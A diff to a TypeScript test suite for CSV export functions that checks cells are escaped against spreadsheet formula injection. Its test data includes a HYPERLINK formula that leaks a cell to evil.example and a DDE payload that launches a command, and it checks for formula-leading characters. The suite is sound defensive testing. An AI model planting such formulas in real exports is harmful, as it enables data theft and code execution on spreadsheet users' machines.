@@ -61,7 +61,7 @@ describe('toMeetingsCsv', () => {
     expect(talks.location).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
     expect(talks.article).toBe(`'-Breaking, "live"`);
     expect(records.find((r) => r.id === 'm-4')!.participants).toBe(`'+Carol Org; Bob, Jr.\u0007; ${HOSTILE_NAME}`);
-    expect(records.find((r) => r.id === 'm-6')!.participants).toBe(`'@Daveland`);
+    expect(records.find((r) => r.id === 'm-6')!.participants).toBe(`'@Daveland\n  Republic`);
     for (const record of records) {
       for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     }
@@ -90,7 +90,7 @@ describe('toEntitiesCsv', () => {
     expect(hostile.name).toBe(HOSTILE_NAME);
     expect(hostile.role).toBe(`'=cmd|"/c calc"!A1`);
     expect(hostile.aliases).toBe("O'Brien; Ctrl\u0001Char");
-    expect(records.find((r) => r.id === 'country:DAV')!).toMatchObject({ name: "'@Daveland", aliases: "'-D-" });
+    expect(records.find((r) => r.id === 'country:DAV')!).toMatchObject({ name: "'@Daveland\n  Republic", aliases: "'-D-" });
     expect(records.find((r) => r.id === 'organisation:carol')!).toMatchObject({ name: "'+Carol Org", country: '', role: '' });
   });
 
